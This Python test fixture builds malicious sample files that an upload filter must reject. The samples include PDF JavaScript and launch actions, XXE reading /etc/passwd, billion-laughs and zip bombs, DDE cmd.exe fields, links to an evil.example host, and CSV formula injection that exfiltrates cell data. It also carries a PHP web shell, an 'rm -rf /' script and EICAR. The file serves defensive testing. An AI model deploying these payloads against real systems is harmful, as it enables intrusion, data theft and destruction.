"""Files that must never be taken: each with its name, and the reason that is given."""

import csv
import io
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.files.making import (
    EICAR,
    MAINS,
    lying_about_size,
    object_stream,
    of_zeros,
    office,
    office_parts,
    opened,
    packed,
    pdf,
    related,
    with_flag,
    zipped,
)

SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)


@dataclass(frozen=True)
class Hostile:
    """What it is, under which name it comes, why it is refused, and how it is made."""

    kind: str
    what: str
    name: str
    reason: str
    make: Callable[[], bytes]

    def __str__(self) -> str:
        return f"{self.kind}: {self.what}"


def _kind(kind: str, *rows: tuple[str, str, str, Callable[[], bytes]]) -> list[Hostile]:
    return [Hostile(kind, *row) for row in rows]


def _table(cell: str, separator: str = ",") -> bytes:
    written = io.StringIO()
    csv.writer(written, delimiter=separator).writerows([["name", "value"], ["a", cell]])
    return written.getvalue().encode()


def _word(inside: str) -> bytes:
    text = f'<?xml version="1.0"?><w:document xmlns:w="urn:w">{inside}</w:document>'
    return office("docx", {"word/document.xml": text.encode()})


def _nested() -> bytes:
    return zipped({"inner.txt": b"x"})


FILES = [
    *_kind(
        "PDF with a script",
        ("in an action", "a.pdf", "script", lambda: pdf(SCRIPT)),
        (
            "in the names of the document",
            "a.pdf",
            "script",
            lambda: pdf(b"<</Names<</JavaScript 5 0 R>>>>", b"<</Names[]>>"),
        ),
        ("written with escapes", "a.pdf", "script", lambda: pdf(b"<</S/J#61vaScri#70t/JS(x)>>")),
        (
            "every letter escaped",
            "a.pdf",
            "script",
            lambda: pdf(b"<</S/" + b"".join(b"#%02X" % c for c in b"JavaScript") + b">>"),
        ),
        ("with a comment between", "a.pdf", "script", lambda: pdf(b"<</S%x\n/JavaScript/JS(x)>>")),
        ("in an object stream", "a.pdf", "script", lambda: pdf(object_stream(SCRIPT))),
        (
            "in an object stream that calls itself an image",
            "a.pdf",
            "script",
            lambda: pdf(object_stream(SCRIPT, b"/Subtype/Image")),
        ),
        (
            "in a stream that does not say what it is",
            "a.pdf",
            "script",
            lambda: pdf(packed(b"9 0 " + SCRIPT)),
        ),
        ("as a bare name that others point to", "a.pdf", "script", lambda: pdf(b"/JavaScript")),
        (
            "in an object stream packed otherwise",
            "a.pdf",
            "damaged",
            lambda: pdf(packed(b"", b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode", b"\x80\x0b\x60")),
        ),
    ),
    *_kind(
        "PDF that starts, sends or carries",
        ("a program", "a.pdf", "launch", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>")),
        ("a form to a server", "a.pdf", "launch", lambda: pdf(b"<</S/SubmitForm/F(http://x)>>")),
        ("data from a file", "a.pdf", "launch", lambda: pdf(b"<</S/ImportData/F(x.fdf)>>")),
        ("an attached file", "a.pdf", "attached", lambda: pdf(b"<</EmbeddedFiles<</Names[]>>>>")),
        (
            "an attached file in an object stream",
            "a.pdf",
            "attached",
            lambda: pdf(object_stream(b"<</Type/EmbeddedFile>>")),
        ),
        ("a jump into an attached file", "a.pdf", "attached", lambda: pdf(b"<</S/GoToE/D(x)>>")),
        ("a Flash film", "a.pdf", "rich-media", lambda: pdf(b"<</Subtype/RichMedia>>")),
        ("a sound", "a.pdf", "rich-media", lambda: pdf(b"<</Type/Sound/R 8000>>")),
        ("an XFA form", "a.pdf", "xfa", lambda: pdf(b"<</AcroForm<</XFA[(x) 5 0 R]>>>>")),
        (
            "a lock",
            "a.pdf",
            "locked",
            lambda: pdf(b"<</Filter/Standard/V 1>>", trailer=b"/Encrypt 4 0 R"),
        ),
    ),
    *_kind(
        "bomb",
        (
            "a PDF whose stream unpacks without end",
            "a.pdf",
            "bomb",
            lambda: pdf(packed(b"", data=_zeros_packed(130_000_000))),
        ),
        (
            "a document whose picture unpacks a thousandfold",
            "a.docx",
            "bomb",
            lambda: office("docx", of_zeros(60_000_000)),
        ),
        (
            "a workbook of many such parts",
            "a.xlsx",
            "bomb",
            lambda: office("xlsx", {f"xl/media/{n}.bin": bytes(9_000_000) for n in range(40)}),
        ),
        (
            "a document that lies about its sizes",
            "a.docx",
            "damaged",
            lambda: lying_about_size(office("docx"), says=4),
        ),
        (
            "a presentation of ten thousand parts",
            "a.pptx",
            "too-many-parts",
            lambda: office("pptx", {f"ppt/{n}.xml": b"<a/>" for n in range(10_000)}),
        ),
        (
            "a document nested deeper than a stack",
            "a.docx",
            "too-many-parts",
            lambda: _word("<w:a>" * 50_000),
        ),
    ),
    *_kind(
        "entities",
        (
            "billion laughs in a document",
            "a.docx",
            "doctype",
            lambda: office("docx", {"word/document.xml": LAUGHS}),
        ),
        (
            "billion laughs in the list of types",
            "a.docx",
            "doctype",
            lambda: zipped(office_parts() | {"[Content_Types].xml": LAUGHS}),
        ),
        (
            "a file of the server",
            "a.xlsx",
            "doctype",
            lambda: office(
                "xlsx",
                {
                    "xl/sharedStrings.xml": (
                        b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><s>&x;</s>'
                    )
                },
            ),
        ),
        (
            "in letters of two bytes",
            "a.xlsx",
            "doctype",
            lambda: office("xlsx", {"xl/styles.xml": LAUGHS.decode().encode("utf-16")}),
        ),
        (
            "in an encoding nobody uses",
            "a.pptx",
            "damaged",
            lambda: office("pptx", {"ppt/a.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}),
        ),
        ("in OpenDocument", "a.odt", "doctype", lambda: opened("odt", {"content.xml": LAUGHS})),
        (
            "far inside a long part",
            "a.xlsx",
            "doctype",
            lambda: office("xlsx", {"xl/a.xml": b"<a>" + b"x" * 200_000 + b'<!ENTITY a "b">'}),
        ),
    ),
    *_kind(
        "macros",
        (
            "VBA in a document",
            "a.docx",
            "macros",
            lambda: office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"}),
        ),
        (
            "VBA in a workbook under another name",
            "a.xlsx",
            "embedded",
            lambda: office("xlsx", {"xl/printer.bin": b"\xd0\xcf\x11\xe0VBA"}),
        ),
        (
            "a macro-enabled document called .docx",
            "a.docx",
            "macros",
            lambda: zipped(office_parts("docx", main_type="x.macroEnabled.main+xml")),
        ),
        (
            "an old macro sheet",
            "a.xlsx",
            "macros",
            lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": b"<xm/>"}),
        ),
        (
            "a relation to VBA",
            "a.pptx",
            "macros",
            lambda: related("vbaProject", "x.bin", in_="pptx", mode=""),
        ),
        (
            "Basic in a text",
            "a.odt",
            "macros",
            lambda: opened("odt", {"Basic/Standard/Module1.xml": b"<script:module/>"}),
        ),
        (
            "Python in a spreadsheet",
            "a.ods",
            "macros",
            lambda: opened("ods", {"Scripts/python/x.txt": b"import os"}),
        ),
        (
            "an event that runs one",
            "a.odp",
            "macros",
            lambda: opened(
                "odp",
                content=(
                    '<script:event-listener script:event-name="dom:load"'
                    ' xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic"/>'
                ),
            ),
        ),
        (
            "a link that runs one",
            "a.odt",
            "macros",
            lambda: opened(
                "odt",
                content=('<text:a xlink:href="vnd.sun.star.script:Standard.M.Main">x</text:a>'),
            ),
        ),
    ),
    *_kind(
        "fetches or embeds",
        (
            "a template from elsewhere",
            "a.docx",
            "external",
            lambda: related("attachedTemplate", "https://evil.example/t.dotm"),
        ),
        (
            "a picture from elsewhere",
            "a.docx",
            "external",
            lambda: related("image", "https://evil.example/pixel.png"),
        ),
        (
            "an object from elsewhere",
            "a.pptx",
            "embedded",
            lambda: related("oleObject", "https://evil.example/x", in_="pptx"),
        ),
        (
            "a frame from elsewhere",
            "a.docx",
            "external",
            lambda: related("frame", "https://evil.example/"),
        ),
        (
            "an ActiveX control",
            "a.docx",
            "embedded",
            lambda: office("docx", {"word/activeX/activeX1.xml": b"<ax/>"}),
        ),
        (
            "an OLE object",
            "a.xlsx",
            "embedded",
            lambda: office("xlsx", {"xl/embeddings/oleObject1.bin": b"anything"}),
        ),
        (
            "a web page as a part",
            "a.docx",
            "web-page",
            lambda: related("aFChunk", "afchunk.html", mode=""),
        ),
        (
            "a DDE field",
            "a.docx",
            "external",
            lambda: _word('<w:fldSimple w:instr="DDEAUTO c:\\windows\\cmd.exe x"/>'),
        ),
        (
            "a DDE field in pieces",
            "a.docx",
            "external",
            lambda: _word(
                "<w:instrText> DD</w:instrText><w:r/><w:instrText>EAUTO cmd</w:instrText>"
            ),
        ),
        (
            "a DDE link of a workbook",
            "a.xlsx",
            "launch",
            lambda: office("xlsx", {"xl/externalLinks/e1.xml": b'<x:ddeLink xmlns:x="u"/>'}),
        ),
        (
            "a DDE source of a spreadsheet",
            "a.ods",
            "external",
            lambda: opened("ods", content='<office:dde-source office:dde-topic="x"/>'),
        ),
        (
            "a picture of a text from elsewhere",
            "a.odt",
            "external",
            lambda: opened("odt", content='<draw:image xlink:href="https://evil.example/p.png"/>'),
        ),
        (
            "an object of a text outside of it",
            "a.odt",
            "external",
            lambda: opened("odt", content='<draw:object xlink:href="../../etc/passwd"/>'),
        ),
        (
            "a plug-in",
            "a.odp",
            "embedded",
            lambda: opened("odp", content='<draw:plugin xlink:href="x"/>'),
        ),
        (
            "a link that is a script",
            "a.docx",
            "bad-link",
            lambda: related("hyperlink", "javascript:alert(1)"),
        ),
        (
            "a link to a share that steals passwords",
            "a.docx",
            "bad-link",
            lambda: related("hyperlink", "\\\\evil.example\\share"),
        ),
        (
            "a link that starts a program",
            "a.xlsx",
            "bad-link",
            lambda: related("hyperlink", "ms-msdt:/id PCWDiagnostic", in_="xlsx"),
        ),
        (
            "an action that starts a program",
            "a.pptx",
            "launch",
            lambda: office("pptx", {"ppt/slides/slide1.xml": b'<a action="ppaction://program"/>'}),
        ),
        (
            "a drawing with a script",
            "a.docx",
            "script",
            lambda: office("docx", {"word/media/i.svg": SVG}),
        ),
    ),
    *_kind(
        "parts with bad names",
        ("up and out", "a.docx", "bad-part-name", lambda: office("docx", {"../../x": b"x"})),
        ("from the root", "a.docx", "bad-part-name", lambda: office("docx", {"/etc/x": b"x"})),
        ("of a drive", "a.xlsx", "bad-part-name", lambda: office("xlsx", {"C:/x": b"x"})),
        (
            "with backslashes",
            "a.pptx",
            "bad-part-name",
            lambda: office("pptx", {"ppt\\..\\x": b"x"}),
        ),
        (
            "twice in other letters",
            "a.odt",
            "bad-part-name",
            lambda: opened("odt", {"CONTENT.XML": b"<a/>"}),
        ),
    ),
    *_kind(
        "archive",
        ("a plain zip", "a.zip", "archive", _nested),
        ("a plain zip called .docx", "a.docx", "archive", _nested),
        (
            "a zip in a document",
            "a.docx",
            "nested",
            lambda: office("docx", {"word/media/image1.png": _nested()}),
        ),
        (
            "a plain zip where a chart's workbook should be",
            "a.pptx",
            "archive",
            lambda: office("pptx", {"ppt/embeddings/b.xlsx": _nested()}),
        ),
        (
            "macros in a chart's workbook",
            "a.pptx",
            "macros",
            lambda: office(
                "pptx", {"ppt/embeddings/b.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}
            ),
        ),
        ("a locked part", "a.docx", "locked", lambda: with_flag(office("docx"), 1)),
        (
            "a locked text",
            "a.odt",
            "locked",
            lambda: opened(
                "odt",
                manifest=(
                    '<manifest:file-entry manifest:full-path="content.xml">'
                    "<manifest:encryption-data/></manifest:file-entry>"
                ),
            ),
        ),
        ("gzip called .csv", "a.csv", "archive", lambda: b"\x1f\x8b\x08" + bytes(40)),
        ("7z", "a.7z", "archive", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(40)),
        ("a Java program", "a.jar", "archive", lambda: zipped({"META-INF/MANIFEST.MF": b"x"})),
    ),
    *_kind(
        "two files in one",
        ("a zip behind a PDF", "a.pdf", "hidden", lambda: pdf() + _nested()),
        (
            "a zip in a PDF that a zip program opens",
            "a.pdf",
            "hidden",
            lambda: _nested()[:-2].join([pdf()[:-6], (6).to_bytes(2, "little") + b"%%EOF\n"]),
        ),
        ("a page in front of a PDF", "a.pdf", "web-page", lambda: b"<html></html>" + pdf()),
        ("a picture in front of a PDF", "a.pdf", "image", lambda: b"GIF89a" + pdf()),
        (
            "a page in the head of a PDF",
            "a.pdf",
            "web-page",
            lambda: pdf(head=b"%PDF-1.4\n%<script>alert(1)</script>\n"),
        ),
        ("a program behind a document", "a.docx", "hidden", lambda: office() + b"MZ\x90\x00"),
        ("a picture in front of a document", "a.docx", "image", lambda: b"GIF89a" + office()),
        (
            "bytes between the parts of a document",
            "a.docx",
            "hidden",
            lambda: office()[:40] + b"hidden" + office()[40:],
        ),
    ),
    *_kind(
        "formula",
        ("that starts a program", "a.csv", "formula", lambda: _table("=cmd|' /C calc'!A0")),
        (
            "that sends what is there",
            "a.csv",
            "formula",
            lambda: _table('=HYPERLINK("http://x?"&A1,"x")'),
        ),
        ("behind a plus", "a.csv", "formula", lambda: _table("+SUM(1)*cmd|'x'!A0")),
        ("behind a minus", "a.csv", "formula", lambda: _table("-2+3+cmd|' /C calc'!A0")),
        ("behind an at", "a.csv", "formula", lambda: _table("@SUM(1+1)")),
        ("behind a tab", "a.csv", "formula", lambda: _table("\t=1+1")),
        ("behind a wide sign", "a.csv", "formula", lambda: _table("＝1+1")),
        ("between semicolons", "a.csv", "formula", lambda: _table("=1+1", ";")),
        (
            "between semicolons in a table of commas",
            "a.csv",
            "formula",
            lambda: b'a,b\r\n1,"x;=1+1"\r\n',
        ),
        (
            "behind a separator that the file itself names",
            "a.csv",
            "formula",
            lambda: b"sep=^\na^=1+1\n",
        ),
        (
            "in letters of two bytes",
            "a.csv",
            "formula",
            lambda: _table("=1+1").decode().encode("utf-16"),
        ),
    ),
    *_kind(
        "not text",
        ("HTML called .txt", "a.txt", "web-page", lambda: b"<!DOCTYPE html><p>x"),
        (
            "a script far inside a text",
            "a.txt",
            "web-page",
            lambda: b"words " * 20_000 + b"<script>alert(1)</script>",
        ),
        ("SVG called .txt", "a.txt", "web-page", lambda: SVG),
        ("PHP called .txt", "a.txt", "web-page", lambda: b"<?php system($_GET[0]);"),
        (
            "HTML in letters of two bytes",
            "a.txt",
            "web-page",
            lambda: "<html><script>x</script>".encode("utf-16"),
        ),
        ("a cell that is a script", "a.csv", "web-page", lambda: _table("<script>x</script>")),
        ("bytes called .txt", "a.txt", "binary", lambda: b"text\x00\x01\x02"),
        ("escape codes of a terminal", "a.txt", "binary", lambda: b"\x1b]0;x\x07"),
        ("letters of an old Windows", "a.csv", "encoding", lambda: "naïve,café\n".encode("cp1252")),
        ("a line without end", "a.csv", "long-line", lambda: b"a," * 700_000),
        ("RTF called .txt", "a.txt", "old-office", lambda: b"{\\rtf1 x}"),
    ),
    *_kind(
        "never taken",
        ("nothing", "a.pdf", "empty", lambda: b""),
        (
            "a Windows program called .pdf",
            "a.pdf",
            "program",
            lambda: b"MZ\x90\x00\x03\x00\x00\x00" + bytes(60),
        ),
        ("a Linux program", "a", "program", lambda: b"\x7fELF\x02\x01\x01" + bytes(60)),
        ("a shell script called .txt", "a.txt", "program", lambda: b"#!/bin/sh\nrm -rf /\n"),
        ("a batch file", "a.bat", "unknown", lambda: b"@echo off\r\ndel *.*\r\n"),
        ("a script of Windows", "a.js", "unknown", lambda: b"WScript.Shell"),
        ("a PNG", "a.png", "image", lambda: b"\x89PNG\r\n\x1a\n" + bytes(40)),
        ("a JPEG called .pdf", "a.pdf", "image", lambda: b"\xff\xd8\xff\xe0" + bytes(40)),
        ("an SVG", "a.svg", "web-page", lambda: SVG),
        ("an HTML page", "a.html", "web-page", lambda: b"<html><body>x"),
        ("an old Word document", "a.doc", "old-office", lambda: b"\xd0\xcf\x11\xe0" + bytes(600)),
        (
            "a locked workbook",
            "a.xlsx",
            "old-office",
            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        ),
        (
            "a template with another main part",
            "a.dotx",
            "unknown",
            lambda: zipped(office_parts("docx", main_type="wordprocessingml.template.main+xml")),
        ),
        (
            "a drawing of OpenDocument",
            "a.odg",
            "unknown",
            lambda: zipped(
                {"mimetype": b"application/vnd.oasis.opendocument.graphics"}, stored=("mimetype",)
            ),
        ),
        ("a document called .pdf", "a.pdf", "wrong-name", lambda: office("docx")),
        ("a PDF cut off", "a.pdf", "damaged", lambda: pdf()[:-12]),
    ),
    *_kind(
        "virus",
        ("the test sign as text", "a.txt", "virus", lambda: EICAR),
        ("the test sign in a PDF", "a.pdf", "virus", lambda: pdf(b"(" + EICAR + b")")),
        (
            "the test sign packed in a document",
            "a.docx",
            "virus",
            lambda: office("docx", {"word/media/x.png": b"\x89PNG" + EICAR}),
        ),
        ("the test sign across two blocks", "a.txt", "virus", lambda: b"x" * 65_500 + EICAR),
    ),
]


def _zeros_packed(size: int) -> bytes:
    packer = zlib.compressobj()
    steps = [packer.compress(bytes(1_000_000)) for _step in range(size // 1_000_000)]
    return b"".join([*steps, packer.flush()])


def main_part(kind: str) -> str:
    return MAINS[kind][0]
